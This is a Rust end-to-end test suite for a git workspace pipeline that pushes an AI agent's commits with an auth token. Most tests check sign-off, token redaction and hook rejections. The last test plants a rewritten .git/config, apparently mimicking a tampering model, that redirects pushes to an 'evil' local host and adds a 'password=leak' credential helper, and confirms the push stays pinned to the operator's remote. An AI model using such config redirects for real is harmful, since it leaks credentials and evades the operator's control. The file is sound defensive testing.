#![cfg(feature = "e2e")]
//! The workspace pipeline against the real smart-HTTP testbed remote (`git http-backend` behind
//! token auth): `cargo test --features e2e --test e2e_git`. Each test starts its own server on
//! a free loopback port and kills it on drop.

mod common;
use common::{commit, git, seed_bare, write_hook};
use foreman::workspace::{
    CommitError, CommitOutcome, GitError, PushError, Token, clone, create_branch, push,
};
use std::path::PathBuf;

const TOKEN: &str = "s3cret-e2e-token";
const WRONG: &str = "wrong-token-d34db33f";

/// One running `git_http_server.py` with `acme/fleet.git` seeded on `main`.
struct Server {
    _server: common::GitServer,
    root: tempfile::TempDir,
    port: u16,
    log: PathBuf,
}

impl Server {
    fn start() -> Server {
        let root = tempfile::tempdir().unwrap();
        seed_bare(root.path(), "acme/fleet.git", &[("README.md", "# fleet\n")]);
        let log = root.path().join("server.log");
        let server = common::GitServer::start_logged(root.path(), TOKEN, Some(&log));
        let port = server.port;
        Server {
            _server: server,
            root,
            port,
            log,
        }
    }

    fn url(&self) -> String {
        format!("http://127.0.0.1:{}/acme/fleet.git", self.port)
    }

    fn bare(&self) -> PathBuf {
        self.root.path().join("acme/fleet.git")
    }

    fn log_text(&self) -> String {
        std::fs::read_to_string(&self.log).unwrap_or_default()
    }

    fn work(&self, name: &str) -> PathBuf {
        self.root.path().join(name)
    }
}

/// Clone with the right token, branch, and commit one new file.
fn cloned_with_commit(srv: &Server, branch: &str) -> (git2::Repository, String) {
    let token = Token::new(TOKEN);
    let work = srv.work("ws");
    let repo = clone(&srv.url(), &work, Some(&token)).unwrap();
    create_branch(&repo, branch).unwrap();
    std::fs::write(work.join("fix.txt"), "fixed\n").unwrap();
    let sha = match commit(
        &repo,
        "Fix the fleet\n\nSigned-off-by: Model <m@ai>",
        Some(7),
    )
    .unwrap()
    {
        CommitOutcome::Committed { sha, .. } => sha,
        CommitOutcome::NoChanges => panic!("expected a commit"),
    };
    (repo, sha)
}

#[test]
fn go_path_pushes_a_dco_signed_commit() {
    let srv = Server::start();
    let token = Token::new(TOKEN);
    let (repo, sha) = cloned_with_commit(&srv, "foreman/issue-7");
    push(&repo, &srv.url(), "foreman/issue-7", Some(&token)).unwrap();

    let bare = srv.bare();
    let b = bare.to_str().unwrap();
    let r = "refs/heads/foreman/issue-7";
    assert_eq!(git(&bare, &["--git-dir", b, "rev-parse", r]).trim(), sha);
    let log = git(
        &bare,
        &[
            "--git-dir",
            b,
            "log",
            "-1",
            "--format=%an <%ae>|%cn <%ce>%n%B",
            r,
        ],
    );
    assert_eq!(
        log.trim_end(),
        "Foreman Bot <bot@example.com>|Foreman Bot <bot@example.com>\n\
         Fix the fleet\n\nFixes #7\n\nSigned-off-by: Foreman Bot <bot@example.com>"
    );
    // The token is never written to disk: origin is the plain URL.
    let config = std::fs::read_to_string(repo.path().join("config")).unwrap();
    assert!(!config.contains(TOKEN), "{config}");
    assert!(config.contains(&srv.url()), "{config}");
}

#[test]
fn wrong_token_on_push_fails_fast_with_a_clear_auth_error() {
    let srv = Server::start();
    let (repo, _) = cloned_with_commit(&srv, "foreman/t");
    let wrong = Token::new(WRONG);
    let err = push(&repo, &srv.url(), "foreman/t", Some(&wrong)).unwrap_err();
    let msg = err.to_string();
    assert!(matches!(err, PushError::Auth { .. }), "{err:?}");
    assert!(msg.contains("rejected the token"), "{msg}");
    assert!(msg.contains("foreman/t"), "{msg}");
    assert!(
        !msg.contains(WRONG) && !format!("{err:?}").contains(WRONG),
        "{msg}"
    );
    // Fail fast: one anonymous probe and one attempt with the token, never a retry loop.
    let log = srv.log_text();
    let denied = log
        .lines()
        .filter(|l| l.contains("git-receive-pack") && l.contains(" 401 "))
        .count();
    assert!(
        (1..=2).contains(&denied),
        "401s for receive-pack: {denied}\n{log}"
    );
    let refs = git(&srv.bare(), &["for-each-ref", "--format=%(refname)"]);
    assert!(!refs.contains("foreman/t"), "{refs}");
}

#[test]
fn wrong_or_missing_token_on_clone_is_a_clear_auth_error() {
    let srv = Server::start();
    let wrong = Token::new(WRONG);
    let err = clone(&srv.url(), &srv.work("ws1"), Some(&wrong))
        .err()
        .unwrap();
    let msg = err.to_string();
    assert!(matches!(err, GitError::Auth { .. }), "{err:?}");
    assert!(
        msg.contains("rejected the token") && msg.contains(&srv.url()),
        "{msg}"
    );
    assert!(!msg.contains(WRONG), "{msg}");

    let err = clone(&srv.url(), &srv.work("ws2"), None).err().unwrap();
    assert!(matches!(err, GitError::Auth { .. }), "{err:?}");
    assert!(err.to_string().contains("no token"), "{err}");

    // Credentials in the URL are redacted from the message too.
    let url = format!(
        "http://x-access-token:{WRONG}@127.0.0.1:{}/acme/fleet.git",
        srv.port
    );
    let err = clone(&url, &srv.work("ws3"), Some(&wrong)).err().unwrap();
    assert!(!format!("{err} {err:?}").contains(WRONG), "{err}");
}

#[test]
fn rejecting_pre_commit_hook_is_reported() {
    let srv = Server::start();
    let token = Token::new(TOKEN);
    let work = srv.work("ws");
    let repo = clone(&srv.url(), &work, Some(&token)).unwrap();
    create_branch(&repo, "foreman/t").unwrap();
    write_hook(
        &repo.path().join("hooks"),
        "pre-commit",
        "echo 'DCO bot: tests failed' >&2; exit 1",
    );
    std::fs::write(work.join("x.txt"), "x").unwrap();
    let err = commit(&repo, "x", None).unwrap_err();
    assert!(
        matches!(&err, CommitError::HookRejected { hook, output }
            if hook == "pre-commit" && output.contains("DCO bot: tests failed")),
        "{err:?}"
    );
}

#[test]
fn remote_pre_receive_rejection_is_reported() {
    let srv = Server::start();
    write_hook(
        &srv.bare().join("hooks"),
        "pre-receive",
        "echo 'GH006: Protected branch update failed' >&2; exit 1",
    );
    let token = Token::new(TOKEN);
    let (repo, _) = cloned_with_commit(&srv, "foreman/t");
    let err = push(&repo, &srv.url(), "foreman/t", Some(&token)).unwrap_err();
    match &err {
        PushError::Rejected { message } => {
            assert!(
                message.contains("GH006: Protected branch update failed"),
                "{message}"
            );
            assert!(message.contains("refs/heads/foreman/t"), "{message}");
            assert!(!message.contains(TOKEN), "{message}");
        }
        other => panic!("unexpected {other:?}"),
    }
}

/// A loopback listener that records every request it receives (answering 401 with a Basic
/// challenge, so a client holding credentials would send them next).
struct Recorder {
    port: u16,
    seen: std::sync::Arc<std::sync::Mutex<Vec<String>>>,
}

impl Recorder {
    fn start() -> Recorder {
        use std::io::{Read, Write};
        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let port = l.local_addr().unwrap().port();
        let seen = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
        let log = std::sync::Arc::clone(&seen);
        std::thread::spawn(move || {
            for mut s in l.incoming().flatten() {
                let mut buf = [0u8; 8192];
                let n = s.read(&mut buf).unwrap_or(0);
                log.lock()
                    .unwrap()
                    .push(String::from_utf8_lossy(&buf[..n]).into_owned());
                let _ = s.write_all(
                    b"HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Basic realm=\"x\"\r\n\
                      Content-Length: 0\r\nConnection: close\r\n\r\n",
                );
            }
        });
        Recorder { port, seen }
    }

    fn url(&self) -> String {
        format!("http://127.0.0.1:{}/evil/fleet.git", self.port)
    }

    fn requests(&self) -> Vec<String> {
        self.seen.lock().unwrap().clone()
    }
}

/// The approved push goes to the operator's remote with the token, whatever the workspace's
/// `.git/config` was rewritten to say (as a model could before issue 9: `url`, `pushurl`,
/// `insteadOf`, a credential helper), through the executor's approval path and `foreman push`.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_approved_push_is_pinned_to_the_operators_remote() {
    use common::scripted_oai::ScriptedServer;
    use foreman::executor::run::TokenSource;
    use foreman::executor::{ExecutorConfig, execute, push_pending};
    let srv = Server::start();
    let evil = Recorder::start();
    for (round, via_cli) in [(1, false), (2, true)] {
        let scripted = ScriptedServer::start(vec![
            common::scripted_oai::Reply::tool_call(
                "write_file",
                format!(r#"{{"path":"fix-{round}.txt","content":"fixed\n"}}"#),
            ),
            common::submit_result("GO", "docs: fix\n\nFixes #7"),
        ])
        .unwrap();
        let cfg = ExecutorConfig {
            base_url: scripted.base_url(),
            git_remote_url: Some(srv.url()),
            workspace_root: srv.work(&format!("ws-{round}")),
            namespace: "default".into(),
            keep_workspace: false,
            identity: common::bot(),
            push_now: false,
            journal_path: srv.work(&format!("journal-{round}.jsonl")),
            token: TokenSource::Given(Token::new(TOKEN)),
            sandbox: Default::default(),
            provider_key: Default::default(),
            github_api_base: None,
        };
        let task = common::task(&format!(
            "  kind: issue-fix\n  agentRef: {{name: coder}}\n  payload: {{repo: acme/fleet, issue: 7, branch: foreman/pinned-{round}, prompt: fix}}\n"
        ));
        let rep = execute(&task, &common::agent(""), &cfg, &mut |_| {})
            .await
            .unwrap();
        assert_eq!(rep.result.verdict, "GO", "{:?}", rep.result);
        let pending = rep.pending_push.unwrap();
        // Every redirect git knows, written straight into the workspace's config.
        let config = pending.workspace.join(".git/config");
        let mut text = std::fs::read_to_string(&config).unwrap();
        text = text.replace(&srv.url(), &evil.url());
        text.push_str(&format!(
            "[remote \"origin\"]\n\tpushurl = {e}\n[url \"{e}\"]\n\tinsteadOf = {real}\n\tpushInsteadOf = {real}\n[credential]\n\thelper = \"!echo password=leak\"\n",
            e = evil.url(),
            real = srv.url()
        ));
        std::fs::write(&config, text).unwrap();
        if via_cli {
            let out = std::process::Command::new(env!("CARGO_BIN_EXE_foreman"))
                .arg("push")
                .arg(&pending.workspace)
                .env("GITHUB_TOKEN", TOKEN)
                .env("FOREMAN_CONFIG", srv.work("none.toml"))
                .output()
                .unwrap();
            let stderr = String::from_utf8_lossy(&out.stderr);
            assert!(out.status.success(), "{stderr}");
            assert!(
                stderr.contains("warning: the workspace's .git/config changed after the clone")
                    && stderr.contains("remote.origin.pushurl"),
                "{stderr}"
            );
            assert!(stderr.contains(&format!("to {}", srv.url())), "{stderr}");
        } else {
            push_pending(&pending, Some(Token::new(TOKEN)))
                .await
                .unwrap();
        }
        let r = format!("refs/heads/{}", pending.branch);
        let bare = srv.bare();
        assert_eq!(
            git(
                &bare,
                &["--git-dir", bare.to_str().unwrap(), "rev-parse", &r]
            )
            .trim(),
            pending.sha,
            "round {round}: the commit is on the operator's remote"
        );
    }
    assert!(
        evil.requests().is_empty(),
        "the rewritten remote was contacted: {:?}",
        evil.requests()
    );
}
